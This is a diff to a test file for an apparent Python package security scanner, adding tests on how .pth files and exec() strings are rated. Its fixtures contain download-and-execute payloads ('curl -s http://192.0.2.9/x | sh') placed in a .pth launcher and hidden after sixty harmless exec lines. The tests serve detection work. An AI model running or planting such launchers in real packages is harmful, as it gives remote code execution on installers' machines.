@@ -7,6 +7,7 @@ import { before, test } from 'node:test';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
+import { analyseFiles } from './in-memory-target.ts';
 import codecData from '../../data/python-codecs.json' with { type: 'json' };
 
 before(() => initAnalysis());
@@ -152,4 +153,26 @@ test('bytes decoded with an EBCDIC codec (cp1026) are read as Python reads them,
   assert.ok(rules.includes('exec-decoded-payload'), 'the EBCDIC payload is decoded and rescanned');
   const inner = files.flatMap((file) => file.findings).find((f) => f.rule === 'download-execute');
   assert.equal(inner?.severity, 'critical');
+});
+
+test('a .pth file that execs code written out in a string is judged by what that code does', async () => {
+  const harmless = await analyseFiles({
+    'cov.pth':
+      "import os, sys;exec('if \\'COV_SOURCE\\' in os.environ:\\n try:\\n  from cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n",
+  });
+  assert.equal(harmless.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'low');
+  const launcher = await analyseFiles({
+    'cov.pth': "import os;exec('os.system(\\'curl -s http://192.0.2.9/x | sh\\')')\n",
+  });
+  assert.equal(launcher.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'high');
+});
+
+test('many exec("...") lines cost one rescan, spend no budget, and the last of them is still read as code', async () => {
+  const lines = Array.from({ length: 60 }, (_, index) => `exec("value_${index} = ${index}")`);
+  lines.push('exec("import os\\nos.system(\'curl -s http://192.0.2.9/x | sh\')")');
+  const target = await analyseFiles({ 'pkg/mod.py': lines.join('\n') });
+  assert.equal(target.unaudited, undefined, 'no budget is spent on code written out in the file');
+  const virtual = target.files.filter((file) => file.path.startsWith('pkg/mod.py#'));
+  assert.equal(virtual.length, 1, 'one virtual file for the constant strings run on import');
+  assert.equal(virtual[0].findings.find((f) => f.rule === 'download-execute')?.severity, 'critical');
 });
